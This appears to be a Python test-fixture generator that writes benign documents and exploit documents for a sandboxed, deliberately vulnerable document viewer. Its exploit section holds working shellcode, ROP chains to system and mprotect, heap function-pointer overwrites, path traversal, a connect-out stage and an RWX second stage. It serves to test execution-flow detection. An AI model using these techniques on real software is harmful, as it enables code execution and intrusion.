#!/usr/bin/env python3
"""Builds the execution-flow evaluation set for tests/flow/fgview.c at test time.

usage: make_docs.py OUT_DIR --viewer PATH_TO_FGVIEW [--benign N]

Writes OUT_DIR/benign-NNN.fgd (varied, deterministic), OUT_DIR/exploit-<class>.fgd and
OUT_DIR/manifest.json.  Every exploit address is read from the built viewer: symbols and
loadable segments from its ELF headers, PLT entries and the vulnerable stack frame from
`objdump -d`, gadgets by scanning its executable segment; shellcode is assembled with `as`.
Nothing is run here.  docs/internals/fgview.md explains the format and each exploit.
"""
import argparse
import json
import os
import random
import re
import struct
import subprocess
import sys
import tempfile
import zlib

WORK = "/work"  # the viewer's working directory inside the sandbox


# ---------------------------------------------------------------- document encoding

def chunk(ctype, data):
    assert len(ctype) == 4
    return ctype + struct.pack("<I", len(data)) + data


def document(chunks):
    return b"FGDOC\x01" + struct.pack("<H", len(chunks)) + b"".join(chunks)


def zlib_chunk(chunks):
    raw = b"".join(chunks)
    return chunk(b"ZLIB", struct.pack("<I", len(raw)) + zlib.compress(raw, 9))


def image_chunk(w, h, channels, scale, label, pixels):
    assert len(pixels) == w * h * channels and len(label) < 256
    return chunk(b"IMAG", struct.pack("<HHBBB", w, h, channels, scale, len(label)) + label + pixels)


def export_chunk(kind, path):
    return chunk(b"EXPO", bytes([kind]) + path.encode())


# ---------------------------------------------------------------- reading the viewer

class Elf:
    """The few parts of an x86_64 ELF executable the exploits need."""

    def __init__(self, path):
        with open(path, "rb") as f:
            self.data = f.read()
        d = self.data
        if d[:4] != b"\x7fELF" or d[4] != 2 or d[5] != 1 or struct.unpack_from("<H", d, 18)[0] != 62:
            raise SystemExit("%s: not an x86_64 little-endian ELF64 file" % path)
        if struct.unpack_from("<H", d, 16)[0] != 2:
            raise SystemExit("%s: not ET_EXEC; the exploits need a non-PIE viewer" % path)
        phoff, shoff = struct.unpack_from("<QQ", d, 0x20)
        phentsize, phnum, shentsize, shnum = struct.unpack_from("<HHHH", d, 0x36)
        self.segments = []  # (vaddr, memsz, flags, file bytes)
        for i in range(phnum):
            ptype, flags, off, vaddr, _, filesz, memsz, _ = struct.unpack_from(
                "<IIQQQQQQ", d, phoff + i * phentsize)
            if ptype == 1:
                self.segments.append((vaddr, memsz, flags, d[off:off + filesz]))
            if ptype == 0x6474E551 and not flags & 1:
                raise SystemExit("%s: the stack is not executable (link with -z execstack)" % path)
        sections = [struct.unpack_from("<IIQQQQIIQQ", d, shoff + i * shentsize)
                    for i in range(shnum)]
        self.symbols = {}
        for s in sections:
            if s[1] != 2:  # SHT_SYMTAB
                continue
            strtab = sections[s[6]]
            for off in range(s[4], s[4] + s[5], 24):
                name, info, _, shndx, value, size = struct.unpack_from("<IBBHQQ", d, off)
                if name and shndx:
                    start = strtab[4] + name
                    nm = d[start:d.index(b"\0", start)].decode()
                    self.symbols.setdefault(nm, (value, size))
        if not self.symbols:
            raise SystemExit("%s: no symbol table (the viewer must not be stripped)" % path)

    def symbol(self, name):
        if name not in self.symbols:
            raise SystemExit("viewer has no symbol %s" % name)
        return self.symbols[name][0]

    def gadget(self, code, what):
        """First address of the byte sequence in an executable segment."""
        for vaddr, _, flags, data in self.segments:
            if flags & 1:
                i = data.find(code)
                if i >= 0:
                    return vaddr + i
        raise SystemExit("viewer has no %s gadget (%s)" % (what, code.hex()))


def objdump(viewer):
    out = subprocess.run(["objdump", "-d", "--no-show-raw-insn", viewer], check=True,
                         capture_output=True, text=True).stdout
    plt = {m.group(2): int(m.group(1), 16)
           for m in re.finditer(r"^([0-9a-f]+) <(\w+)@plt>:", out, re.M)}
    return out, plt


def overflow_offset(disasm, func="font_take_name"):
    """Distance from the overflowed buffer to the saved return address.

    The buffer is whatever %rdi holds (an rbp-relative lea) at the memcpy call of `func`;
    with frame pointers the return address sits at rbp+8.
    """
    m = re.search(r"^[0-9a-f]+ <%s>:\n(.*?)(?:\n\n|\Z)" % func, disasm, re.M | re.S)
    if not m:
        raise SystemExit("viewer has no function %s" % func)
    body = [l.split("\t", 1)[-1].strip() for l in m.group(1).splitlines()]
    if not (body[0].startswith("push") and "%rbp" in body[0] and body[1] == "mov    %rsp,%rbp"):
        raise SystemExit("%s: no frame-pointer prologue (build with -O0 -fno-omit-frame-pointer)"
                         % func)
    regs, rdi = {}, None
    for ins in body:
        lea = re.match(r"lea\s+-0x([0-9a-f]+)\(%rbp\),(%\w+)", ins)
        mov = re.match(r"mov\s+(%\w+),%rdi$", ins)
        if lea:
            regs[lea.group(2)] = int(lea.group(1), 16)
        elif mov:
            rdi = regs.get(mov.group(1))
        elif re.match(r"call\s+\S+ <memcpy@plt>", ins):
            if rdi is None or not 0 < rdi < 0x1000:
                break
            return rdi + 8
    raise SystemExit("%s: cannot find the overflowed buffer before memcpy" % func)


class Target:
    """Every address an exploit uses, from one build of the viewer."""

    def __init__(self, viewer):
        elf = Elf(viewer)
        disasm, plt = objdump(viewer)
        for f in ("system", "exit"):
            if f not in plt:
                raise SystemExit("viewer has no %s@plt" % f)
        self.addr = {
            "jmp_rsp": elf.gadget(b"\xff\xe4", "jmp *%rsp"),
            "pop_rdi": elf.gadget(b"\x5f\xc3", "pop %rdi; ret"),
            "pop_rsi": elf.gadget(b"\x5e\xc3", "pop %rsi; ret"),
            "pop_rdx": elf.gadget(b"\x5a\xc3", "pop %rdx; ret"),
            "pop_rax": elf.gadget(b"\x58\xc3", "pop %rax; ret"),
            "syscall_ret": elf.gadget(b"\x0f\x05\xc3", "syscall; ret"),
            "ret": elf.gadget(b"\xc3", "ret"),
            "system@plt": plt["system"],
            "exit@plt": plt["exit"],
            "g_title": elf.symbol("g_title"),
            "fgview_debug_run": elf.symbol("fgview_debug_run"),
        }
        self.ret_offset = overflow_offset(disasm)
        self.build_id = build_id(elf.data)

    def hexaddr(self, *names):
        return {n: hex(self.addr[n]) for n in names}


def build_id(data):
    i = data.find(b"GNU\0", 0)
    while i >= 0:
        namesz, descsz, ntype = struct.unpack_from("<III", data, i - 12)
        if namesz == 4 and ntype == 3:
            return data[i + 4:i + 4 + descsz].hex()
        i = data.find(b"GNU\0", i + 1)
    raise SystemExit("viewer has no GNU build-id note")


# ---------------------------------------------------------------- shellcode

def assemble(body):
    """Assembles position-independent x86_64 code (Intel syntax) into raw bytes."""
    with tempfile.TemporaryDirectory() as tmp:
        src, obj, raw = (os.path.join(tmp, n) for n in ("sc.s", "sc.o", "sc.bin"))
        with open(src, "w") as f:
            f.write(".intel_syntax noprefix\n.text\n" + body + "\n")
        subprocess.run(["as", "--64", "-o", obj, src], check=True)
        subprocess.run(["objcopy", "-O", "binary", "-j", ".text", obj, raw], check=True)
        relocs = subprocess.run(["objdump", "-r", obj], check=True, capture_output=True,
                                text=True).stdout
        if "R_X86_64" in relocs:
            raise SystemExit("shellcode is not position independent:\n" + relocs)
        with open(raw, "rb") as f:
            return f.read()


def asciz(s):
    return ".byte " + ",".join(str(b) for b in s.encode() + b"\0")


def sc_exec_shell(command):
    """execve("/bin/sh", ["sh", "-c", command], NULL); exit(127) if that fails."""
    return assemble("""
        lea rdi, [rip + path]
        xor edx, edx
        push rdx
        lea rax, [rip + cmd]
        push rax
        lea rax, [rip + dash_c]
        push rax
        lea rax, [rip + arg0]
        push rax
        mov rsi, rsp
        mov eax, 59
        syscall
        mov edi, 127
        mov eax, 231
        syscall
    path: %s
    arg0: %s
    dash_c: %s
    cmd: %s
    """ % (asciz("/bin/sh"), asciz("sh"), asciz("-c"), asciz(command)))


def sc_connect(ip, port, status):
    """socket(AF_INET, SOCK_STREAM, 0); connect(ip:port); exit_group(status)."""
    a = ",".join(ip.split("."))
    return assemble("""
        mov edi, 2
        mov esi, 1
        xor edx, edx
        mov eax, 41
        syscall
        mov edi, eax
        lea rsi, [rip + sin]
        mov edx, 16
        mov eax, 42
        syscall
        mov edi, %d
        mov eax, 231
        syscall
    sin: .word 2
        .byte %d, %d
        .byte %s
        .quad 0
    """ % (status, port >> 8, port & 0xFF, a))


def sc_mmap_stage(stage2):
    """mmap an anonymous RWX page, copy stage2 into it and jump there."""
    return assemble("""
        xor edi, edi
        mov esi, 4096
        mov edx, 7
        mov r10d, 0x22
        mov r8, -1
        xor r9d, r9d
        mov eax, 9
        syscall
        mov rdi, rax
        lea rsi, [rip + stage2]
        mov ecx, %d
        rep movsb
        jmp rax
    stage2: .byte %s
    """ % (len(stage2), ",".join(str(b) for b in stage2)))


# ---------------------------------------------------------------- exploits

def p64(*vals):
    return b"".join(struct.pack("<Q", v) for v in vals)


def rop_call(t, chain, func):
    """Appends func, after a `ret` if needed, so that it is entered with rsp = 8 mod 16 as
    after a call.  Slot k of the chain (k = 0 is the overwritten return address, pushed by a
    call, so 8 mod 16) lies at 8 + 8k mod 16; the `ret` into slot k leaves rsp at slot k + 1,
    which is 8 mod 16 exactly when k is odd."""
    if len(chain) % 2 == 0:
        chain.append(t.addr["ret"])
    chain.append(func)


def smash(t, tail):
    """A FONT chunk that overflows font_take_name: filler, a saved rbp, then tail at the
    return address."""
    fill = b"fgview-font-name-".ljust(t.ret_offset - 8, b"A")
    return chunk(b"FONT", fill + b"B" * 8 + tail)


def decoy_prefix(rng, n_text=2):
    """Ordinary chunks in front of an exploit, so that it starts like a benign document."""
    return [chunk(b"TITL", b"Quarterly report"),
            chunk(b"META", b"author=Finance\nlang=en\n")] + [
        chunk(b"TEXT", words(rng, 40, 120).encode()) for _ in range(n_text)]


def exploit_docs(t, rng):
    a = t.addr
    docs = []

    def add(cls, chunks, effect, expect, tracer, used):
        docs.append({"name": "exploit-%s.fgd" % cls, "kind": "exploit", "class": cls,
                     "effect": effect, "expect": expect, "tracer": tracer,
                     "addresses": t.hexaddr(*used), "data": document(chunks)})

    cmd = "echo owned > %s/owned" % WORK
    add("stack-shellcode",
        decoy_prefix(rng) + [smash(t, p64(a["jmp_rsp"]) + sc_exec_shell(cmd))],
        "stack overflow in FONT returns to a jmp *%%rsp gadget; shellcode on the stack runs "
        "/bin/sh -c '%s'" % cmd,
        [{"file": "work/owned", "equals": "owned\n"},
         {"trace": r'execve\("/bin/sh", \["sh", "-c", "echo owned'}],
        "execve called from code on the stack (syscall instruction outside any file-backed "
        "mapping); fgview starts a shell", ["jmp_rsp"])

    chain = [a["pop_rdi"], a["g_title"]]
    rop_call(t, chain, a["system@plt"])
    chain += [a["pop_rdi"], 0]
    rop_call(t, chain, a["exit@plt"])
    cmd = "id > %s/rop" % WORK
    add("rop-system",
        [chunk(b"TITL", cmd.encode())] + decoy_prefix(rng)[1:] + [smash(t, p64(*chain))],
        "stack overflow in FONT, return-oriented chain pop rdi (= g_title, holding the "
        "command) -> system@plt -> exit(0): runs '%s'" % cmd,
        [{"file": "work/rop", "startswith": "uid="}, {"exit": 0},
         {"trace": r'execve\("/bin/sh", \["sh", "-c", "id > /work/rop"\]'}],
        "returns to addresses not preceded by a call (pop rdi; ret gadgets, system@plt); "
        "system/execve of a shell from fgview", ["pop_rdi", "ret", "g_title", "system@plt",
                                                  "exit@plt"])

    cmd = "echo fnptr>%s/fnptr" % WORK
    label = cmd.encode().ljust(32, b"\0") + p64(a["fgview_debug_run"])
    add("fnptr-debug",
        decoy_prefix(rng) + [image_chunk(4, 4, 1, 1, label, bytes(range(16)))],
        "heap overflow of the render job's label replaces on_done with fgview_debug_run; "
        "the render thread calls it with the job (= the label) and runs '%s'" % cmd,
        [{"file": "work/fnptr", "equals": "fnptr\n"}, {"exit": 0},
         {"trace": r'execve\("/bin/sh", \["sh", "-c", "echo fnptr>/work/fnptr"\]'}],
        "an indirect call from render_thread to fgview_debug_run (never its target in benign "
        "runs), then system -> execve of a shell from the render thread",
        ["fgview_debug_run"])

    cmd = "echo zfnptr>%s/zfnptr" % WORK
    label = cmd.encode().ljust(32, b"\0") + p64(a["system@plt"])
    add("fnptr-system-zlib",
        decoy_prefix(rng, 1) + [zlib_chunk([chunk(b"TEXT", words(rng, 20, 40).encode()),
                                            image_chunk(8, 2, 3, 2, label, bytes(48))])],
        "the same heap overflow hidden in a compressed ZLIB chunk; on_done becomes "
        "system@plt and runs '%s'" % cmd,
        [{"file": "work/zfnptr", "equals": "zfnptr\n"}, {"exit": 0}],
        "an indirect call from render_thread straight into system@plt; execve of a shell "
        "(the document's plain bytes show no label overflow: it is compressed)",
        ["system@plt"])

    add("path-traversal",
        decoy_prefix(rng) + [export_chunk(0, "../../tmp/fg-escape")],
        "data only: the EXPO path ../../tmp/fg-escape is used as given; fgview itself "
        "writes /tmp/fg-escape outside its work directory",
        [{"file": "tmp/fg-escape", "startswith": "# Quarterly report"}, {"exit": 0},
         {"trace": r'openat\(AT_FDCWD, "\.\./\.\./tmp/fg-escape", O_WRONLY\|O_CREAT'}],
        "openat O_WRONLY|O_CREAT of a path resolving outside /work (no code injection: the "
        "call stack is the benign export path)", [])

    add("path-absolute",
        decoy_prefix(rng, 1) + [export_chunk(1, "/tmp/fg-abs.txt")],
        "data only: an absolute EXPO path; fgview writes /tmp/fg-abs.txt",
        [{"file": "tmp/fg-abs.txt", "startswith": "Quarterly report:"}, {"exit": 0},
         {"trace": r'openat\(AT_FDCWD, "/tmp/fg-abs\.txt", O_WRONLY\|O_CREAT'}],
        "openat O_WRONLY|O_CREAT of an absolute path outside /work", [])

    add("connect-out",
        decoy_prefix(rng) + [smash(t, p64(a["jmp_rsp"]) + sc_connect("192.0.2.1", 443, 42))],
        "stack shellcode: socket(AF_INET) + connect to 192.0.2.1:443 (TEST-NET; fails in a "
        "sandbox without network), then exit_group(42)",
        [{"exit": 42}, {"trace": r"socket\(AF_INET, SOCK_STREAM"},
         {"trace": r'connect\(\d+, \{sa_family=AF_INET, sin_port=htons\(443\), '
                   r'sin_addr=inet_addr\("192\.0\.2\.1"\)'}],
        "socket and connect called from code on the stack; a viewer that connects out",
        ["jmp_rsp"])

    cmd = "echo stage2 > %s/stage2" % WORK
    add("mmap-stage2",
        decoy_prefix(rng) + [smash(t, p64(a["jmp_rsp"]) + sc_mmap_stage(sc_exec_shell(cmd)))],
        "stack shellcode maps an anonymous RWX page, copies a second stage there and jumps "
        "to it; the second stage runs '%s'" % cmd,
        [{"file": "work/stage2", "equals": "stage2\n"},
         {"trace": r"mmap\(NULL, 4096, PROT_READ\|PROT_WRITE\|PROT_EXEC, "
                   r"MAP_PRIVATE\|MAP_ANONYMOUS"}],
        "mmap PROT_EXEC from code on the stack (W^X), then execve from an anonymous mapping",
        ["jmp_rsp"])

    cmd = "echo mprotect > %s/mprotect" % WORK
    code = sc_exec_shell(cmd)
    if len(code) > 255:
        raise SystemExit("title shellcode too long")
    page = a["g_title"] & ~0xFFF
    length = ((a["g_title"] + len(code) + 0xFFF) & ~0xFFF) - page
    chain = [a["pop_rdi"], page, a["pop_rsi"], length, a["pop_rdx"], 7, a["pop_rax"], 10,
             a["syscall_ret"], a["g_title"]]
    add("rop-mprotect",
        [chunk(b"TITL", code)] + decoy_prefix(rng)[1:] + [smash(t, p64(*chain))],
        "return-oriented chain into a raw syscall: mprotect(.bss page, RWX) and a jump to "
        "shellcode the TITL chunk left in g_title; it runs '%s'" % cmd,
        [{"file": "work/mprotect", "equals": "mprotect\n"},
         {"trace": r"mprotect\(0x[0-9a-f]+, \d+, PROT_READ\|PROT_WRITE\|PROT_EXEC\) = 0"}],
        "mprotect PROT_EXEC of the data segment from a syscall gadget reached by ret (not "
        "call-preceded), then execve from code in .bss", ["pop_rdi", "pop_rsi", "pop_rdx",
                                                         "pop_rax", "syscall_ret", "g_title"])
    return docs


# ---------------------------------------------------------------- benign documents

VOCAB = ("the of and to in a is that for on with as by at from this be are it an or "
         "report quarter revenue budget meeting project team schedule review draft figure "
         "table section result summary analysis plan customer product release network "
         "storage server update policy request invoice payment contract supplier order "
         "delivery warehouse inventory forecast growth margin cost risk audit control "
         "security training support service ticket incident change approval minutes").split()

FONTS = ["DejaVuSans", "DejaVuSerif", "DejaVuSansMono", "DejaVuSans-Bold",
         "DejaVuSerif-Italic", "DejaVuSansCondensed", "LiberationSans-Regular",
         "Helvetica", "Times-Roman", "Courier_New", "no/such font"]

META_KEYS = ["author", "created", "lang", "keywords", "department", "revision", "status"]


def words(rng, lo, hi):
    return " ".join(rng.choice(VOCAB) for _ in range(rng.randint(lo, hi)))


def pixels(rng, w, h, ch):
    kind = rng.choice(["gradient", "checker", "noise", "stripes"])
    out = bytearray(w * h * ch)
    for y in range(h):
        for x in range(w):
            for c in range(ch):
                if kind == "gradient":
                    v = (x * 255 // max(w - 1, 1) + c * 60 + y) & 0xFF
                elif kind == "checker":
                    v = 230 if ((x // 8) + (y // 8)) % 2 else 25
                elif kind == "stripes":
                    v = (y * 16 + c * 90) & 0xFF
                else:
                    v = rng.randrange(256)
                out[(y * w + x) * ch + c] = v
    return bytes(out)


def benign_doc(rng, i):
    """One benign document with a random mix of chunks; returns (chunks, images, exports,
    features)."""
    body, feats = [], set()
    n_img = 0
    if rng.random() < 0.9:
        body.append(chunk(b"TITL", ("Document %d: %s" % (i, words(rng, 2, 6))).encode()))
    if rng.random() < 0.7:
        body.append(chunk(b"FONT", rng.choice(FONTS).encode()))
        feats.add("font")
    if rng.random() < 0.6:
        lines = ["%s=%s" % (k, words(rng, 1, 3)) for k in rng.sample(META_KEYS, rng.randint(1, 5))]
        if rng.random() < 0.2:
            lines.append("malformed line without equals sign")
        body.append(chunk(b"META", ("\n".join(lines) + "\n").encode()))
        feats.add("meta")
    for _ in range(rng.randint(0, 6)):
        body.append(chunk(b"TEXT", words(rng, 5, 400).encode()))
        feats.add("text")
    for _ in range(rng.choice([0, 0, 1, 1, 2, 3])):
        w, h = rng.choice([(4, 4), (16, 16), (64, 48), (128, 96), (200, 150), (320, 240)])
        ch, scale = rng.choice([1, 3]), rng.choice([1, 1, 2, 3, 4, 8])
        scale = min(scale, w, h)
        label = rng.choice([b"", b"logo", b"figure %d" % n_img, b"chart-q3", b"x" * 31])
        body.insert(rng.randint(0, len(body)), image_chunk(w, h, ch, scale, label,
                                                           pixels(rng, w, h, ch)))
        n_img += 1
        feats.add("image")
    if rng.random() < 0.1:
        body.append(chunk(b"NOTE", b"a chunk type this viewer does not know"))
        feats.add("unknown-chunk")
    exports = []
    for _ in range(rng.choice([0, 0, 1, 1, 2])):
        path = rng.choice(["export.txt", "exports/summary-%d.txt" % i, "out/%d/copy.txt" % i,
                           "report-%d.txt" % i])
        if path not in exports:
            exports.append(path)
            body.append(export_chunk(rng.randint(0, 1), path))
            feats.add("export")
    if body and rng.random() < 0.3:
        k = rng.randint(1, len(body))
        inner = body[-k:]
        if len(inner) > 1 and rng.random() < 0.3:
            inner = inner[:1] + [zlib_chunk(inner[1:])]
            feats.add("zlib-nested")
        body = body[:-k] + [zlib_chunk(inner)]
        feats.add("zlib")
    return body, n_img, exports, sorted(feats)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out_dir")
    ap.add_argument("--viewer", required=True)
    ap.add_argument("--benign", type=int, default=120)
    ap.add_argument("--seed", type=int, default=4)
    args = ap.parse_args()
    t = Target(args.viewer)
    rng = random.Random(args.seed)
    os.makedirs(args.out_dir, exist_ok=True)
    entries = []
    for i in range(args.benign):
        chunks, n_img, exports, feats = benign_doc(rng, i)
        name = "benign-%03d.fgd" % i
        with open(os.path.join(args.out_dir, name), "wb") as f:
            f.write(document(chunks))
        entries.append({"name": name, "kind": "benign",
                        "set": "holdout" if i % 3 == 2 else "learn", "features": feats,
                        "outputs": ["out.txt"] + ["image-%d.ppm" % k for k in range(n_img)]
                        + exports})
    for d in exploit_docs(t, rng):
        with open(os.path.join(args.out_dir, d["name"]), "wb") as f:
            f.write(d.pop("data"))
        entries.append(d)
    manifest = {"viewer": os.path.abspath(args.viewer), "build_id": t.build_id,
                "ret_offset": t.ret_offset, "workdir": WORK, "documents": entries}
    with open(os.path.join(args.out_dir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    print("%d benign and %d exploit documents in %s" % (
        args.benign, len(entries) - args.benign, args.out_dir))
    return 0


if __name__ == "__main__":
    sys.exit(main())
